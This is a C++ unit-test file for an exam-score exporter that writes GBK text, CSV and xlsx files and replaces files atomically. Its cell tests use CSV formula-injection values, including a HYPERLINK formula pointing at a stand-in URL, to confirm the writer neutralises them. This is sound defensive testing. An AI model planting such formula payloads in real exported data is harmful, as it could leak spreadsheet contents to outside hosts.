// The export file's bytes, the CSV and spreadsheet exports, the exam time's
// one format, and the safe replacement of files.
#include <gtest/gtest.h>
#include <zip.h>

#include <algorithm>
#include <cstdlib>

#include "common/text/gbk.h"
#include "common/scores/export_writers.h"
#include "tests/console/scores/score_fixture.h"

namespace mendrix::scores {
namespace {

using test::at;
using test::scoreRow;

std::string gbk(const std::string& utf8) { return kav::text::utf8ToGbk(utf8); }

TEST(ExamTime, OneFixedFormatDateAloneAtMidnightAndZeroOrNullEmpty) {
    struct Case {
        std::optional<kav::DateTime> time;
        std::string text;
    };
    const Case cases[] = {
        {at(2026, 12, 9, 14, 5, 30), "2026-12-09 14:05:30"},
        {at(2026, 1, 2), "2026-01-02"},
        {at(2026, 1, 2, 0, 0, 1), "2026-01-02 00:00:01"},
        {kav::DateTime::zero(), ""},
        {std::nullopt, ""},
    };
    for (const Case& c : cases) EXPECT_EQ(kstimeText(c.time), c.text) << c.text;
}

TEST(TextExport, GbkLinesWithCrLfSingleSpacesAndNullAsEmpty) {
    struct Case {
        const char* name;
        std::vector<ScoreRow> rows;
        std::string bytes;
    };
    const std::string title = gbk("计算机等级考试成绩单") + "\r\n";
    const Case cases[] = {
        {"empty table", {}, title},
        {"full row with a time",
         {scoreRow("110199990001", "张三", at(2026, 12, 9, 14, 5, 30), 20, 28, 18, 30, 96)},
         title + "110199990001 " + gbk("张三") + " 2026-12-09 14:05:30 20 28 18 30 96\r\n"},
        {"NULL word score gives two adjacent spaces",
         {scoreRow("110199990002", "李四", at(2026, 12, 9, 9, 0, 0), 16, 25, 12, std::nullopt, 53)},
         title + "110199990002 " + gbk("李四") + " 2026-12-09 09:00:00 16 25 12  53\r\n"},
        {"midnight date alone, zero time empty",
         {scoreRow("1", "a", at(2026, 3, 1), 0, 0, 0, 0, 0), scoreRow("2", "b", kav::DateTime::zero(), 1, 2, 3, 4, 10)},
         title + "1 a 2026-03-01 0 0 0 0 0\r\n2 b  1 2 3 4 10\r\n"},
    };
    for (const Case& c : cases) EXPECT_EQ(exportTextGbk(c.rows), c.bytes) << c.name;
}

TEST(TextExport, ANameGbkCannotHoldRefusesTheExportNamingTheRow) {
    const std::vector<ScoreRow> rows = {scoreRow("110199990001", "张三", std::nullopt, 1, 1, 1, 1, 4),
                                        scoreRow("110199990002", "Kim 김", std::nullopt, 1, 1, 1, 1, 4)};
    try {
        exportTextGbk(rows);
        FAIL() << "a Hangul name was exported";
    } catch (const ExportError& e) {
        const std::string text = e.what();
        EXPECT_NE(text.find("第2行"), std::string::npos) << text;
        EXPECT_NE(text.find("110199990002"), std::string::npos) << text;
        EXPECT_NE(text.find("姓名"), std::string::npos) << text;
    }
}

TEST(CsvExport, Utf8WithBomHeaderRowAndQuotedFields) {
    const std::vector<ScoreRow> rows = {scoreRow("110199990001", "张三", at(2026, 12, 9, 14, 5, 30), 20, 28, 18, 30, 96),
                                        scoreRow("2", "O\"Neil, Pat", std::nullopt, std::nullopt, 1, 2, 3, 6)};
    EXPECT_EQ(scoresCsv(rows),
              "\xEF\xBB\xBF"
              "准考证号,姓名,时间, WIN,选择,打字,word,总分\r\n"
              "110199990001,张三,2026-12-09 14:05:30,20,28,18,30,96\r\n"
              "2,\"O\"\"Neil, Pat\",,,1,2,3,6\r\n");
}

// The parts of a spreadsheet file, read with libzip (not with the writer).
std::string zipEntry(const std::filesystem::path& file, const char* name) {
    int error = 0;
    zip_t* z = zip_open(file.c_str(), ZIP_RDONLY, &error);
    if (!z) return "<not a zip file>";
    std::string out;
    if (zip_file_t* f = zip_fopen(z, name, 0)) {
        char buf[4096];
        for (zip_int64_t n; (n = zip_fread(f, buf, sizeof buf)) > 0;) out.append(buf, static_cast<size_t>(n));
        zip_fclose(f);
    } else {
        out = "<no entry>";
    }
    zip_close(z);
    return out;
}

// The XML of one cell of a worksheet, empty when the sheet has no such cell.
std::string cellXml(const std::string& sheet, const std::string& ref) {
    const size_t start = sheet.find("<c r=\"" + ref + "\"");
    if (start == std::string::npos) return {};
    const size_t selfClosed = sheet.find("/>", start), end = sheet.find("</c>", start);
    return sheet.substr(start, std::min(selfClosed, end) + 4 - start);
}

TEST(SpreadsheetExport, NumbersAsNumbersDatesAsDatesAndNamesAsText) {
    kav::test::TempDir dir;
    const auto file = dir / "scores.xlsx";
    writeScoresXlsx({scoreRow("110199990001", "张三", at(2026, 12, 9, 12, 0, 0), 20, 28, 18, std::nullopt, 66)}, file);
    const std::string sheet = zipEntry(file, "xl/worksheets/sheet1.xml");
    const std::string strings = zipEntry(file, "xl/sharedStrings.xml");
    EXPECT_NE(strings.find("张三"), std::string::npos);
    EXPECT_NE(strings.find("准考证号"), std::string::npos);
    // 2026-12-09 12:00 is day 46365.5 of the spreadsheet's calendar.
    EXPECT_NE(sheet.find("<v>46365.5</v>"), std::string::npos) << sheet;
    struct Cell {
        const char* ref;
        std::string value;  // empty: no such cell
        bool isText;
    };
    const Cell cells[] = {
        {"A1", "", true},  {"B2", "", true}, {"C2", "<v>46365.5</v>", false}, {"D2", "<v>20</v>", false},
        {"F2", "<v>18</v>", false}, {"G2", "", false}, {"H2", "<v>66</v>", false},
    };
    for (const Cell& c : cells) {
        const std::string xml = cellXml(sheet, c.ref);
        if (c.isText) {
            EXPECT_NE(xml.find("t=\"s\""), std::string::npos) << c.ref << ": " << xml;
        } else if (c.value.empty()) {
            EXPECT_EQ(xml, "") << c.ref << " (a NULL score is no cell)";
        } else {
            EXPECT_NE(xml.find(c.value), std::string::npos) << c.ref << ": " << xml;
            EXPECT_EQ(xml.find("t=\""), std::string::npos) << c.ref << " is a number: " << xml;
        }
    }
}

TEST(ExportCells, FormulasLineBreaksAndControlCharactersAreWrittenHarmlessly) {
    struct Case {
        std::string field, text, csv, xlsx;
    };
    const std::string nul("a\0b", 3);
    const Case cases[] = {
        {"张三", "张三", "张三", "张三"},
        {"=1+1", "=1+1", "'=1+1", "=1+1"},
        {"+A1", "+A1", "'+A1", "+A1"},
        {"+86", "+86", "+86", "+86"},  // a number, no formula
        {"-x", "-x", "'-x", "-x"},
        {"@SUM(A1)", "@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
        {"\t=1", " =1", "'\t=1", "\t=1"},
        {"\r=1", " =1", "'\r=1", "\r=1"},
        {"-5", "-5", "-5", "-5"},  // a plain number stays one
        {"0.25", "0.25", "0.25", "0.25"},
        {"a=1", "a=1", "a=1", "a=1"},
        {"张\r\n三\n四\r五", "张 三 四 五", "张\r\n三\n四\r五", "张\r\n三\n四\r五"},
        {nul, "a?b", "a\xEF\xBF\xBD" "b", "a\xEF\xBF\xBD" "b"},
        {"a\x01" "b", "a?b", "a\xEF\xBF\xBD" "b", "a\xEF\xBF\xBD" "b"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(exportCell(c.field, ExportFormat::Text), c.text) << c.field;
        EXPECT_EQ(exportCell(c.field, ExportFormat::Csv), c.csv) << c.field;
        EXPECT_EQ(exportCell(c.field, ExportFormat::Xlsx), c.xlsx) << c.field;
    }
}

TEST(ExportCells, EveryWriterWritesTheRule) {
    const std::vector<ScoreRow> rows = {
        scoreRow("=1+1", "=HYPERLINK(\"http://x\"&A2,\"点我\")", std::nullopt, 1, 2, 3, 4, 10),
        scoreRow("2", "张\r\n三", std::nullopt, 1, 2, 3, 4, 10)};
    const std::string csv = scoresCsv(rows);
    EXPECT_NE(csv.find("\r\n'=1+1,\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"点我\"\")\",,1,2,3,4,10\r\n"), std::string::npos)
        << csv;
    EXPECT_NE(csv.find("\r\n2,\"张\r\n三\",,1,2,3,4,10\r\n"), std::string::npos) << "quoted, one record";
    const std::string text = exportTextGbk(rows);
    EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 3) << "the title and one line a record";
    EXPECT_NE(text.find("2 " + gbk("张 三") + "  1 2 3 4 10\r\n"), std::string::npos);

    kav::test::TempDir dir;
    writeScoresXlsx({scoreRow("1", std::string("李\0四", 7), std::nullopt, 1, 2, 3, 4, 10)}, dir / "s.xlsx");
    EXPECT_NE(zipEntry(dir / "s.xlsx", "xl/sharedStrings.xml").find("李\xEF\xBF\xBD四"), std::string::npos)
        << "the NUL is marked, the name not cut";
}

// LibreOffice, when installed, opens the exported CSV with `=1+1` as text: its
// own spreadsheet of the file has no formula and the text as written.
TEST(ExportCells, LibreOfficeReadsAFormulaLikeNameAsText) {
    if (std::system("soffice --version >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice is not installed";
    kav::test::TempDir dir;
    writeFileReplacing(dir / "s.csv", scoresCsv({scoreRow("1", "=1+1", std::nullopt, 1, 2, 3, 4, 10)}));
    const std::string command = "cd '" + dir.path().string() + "' && HOME='" + dir.path().string() +
                                "' soffice --headless --convert-to xlsx --infilter=CSV:44,34,76,1 s.csv >/dev/null 2>&1";
    ASSERT_EQ(std::system(command.c_str()), 0);
    if (!std::filesystem::exists(dir / "s.xlsx")) GTEST_SKIP() << "LibreOffice has no spreadsheet filter (no Calc)";
    const std::string sheet = zipEntry(dir / "s.xlsx", "xl/worksheets/sheet1.xml");
    const std::string cell = cellXml(sheet, "B2");
    EXPECT_EQ(cell.find("<f>"), std::string::npos) << cell;
    EXPECT_NE(cell.find("t=\"s\""), std::string::npos) << cell;
    EXPECT_NE(zipEntry(dir / "s.xlsx", "xl/sharedStrings.xml").find("=1+1"), std::string::npos);
}

TEST(FileReplacement, ReplacesWholeAndAFailureLeavesTheOldFileAndNoTemporary) {
    kav::test::TempDir dir;
    const auto file = dir / "out.doc";
    kav::test::writeFile(file, "old");
    writeFileReplacing(file, "new text");
    EXPECT_EQ(kav::test::readFile(file), "new text");
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir.path()), {}), 1) << "no temporary left";

    // A target that cannot be replaced (a folder of that name): refused with
    // the system's text, and the temporary file is gone again.
    const auto folder = dir / "taken.doc";
    std::filesystem::create_directory(folder);
    kav::test::writeFile(folder / "inside", "kept");
    EXPECT_THROW(writeFileReplacing(folder, "lost"), ExportError);
    EXPECT_EQ(kav::test::readFile(folder / "inside"), "kept");
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir.path()), {}), 2) << "no temporary left";
}

TEST(FileReplacement, AMissingFolderIsReportedNotCreated) {
    kav::test::TempDir dir;
    EXPECT_THROW(writeFileReplacing(dir / "no/such/folder/out.doc", "x"), ExportError);
    EXPECT_FALSE(std::filesystem::exists(dir / "no"));
}

}  // namespace
}  // namespace mendrix::scores
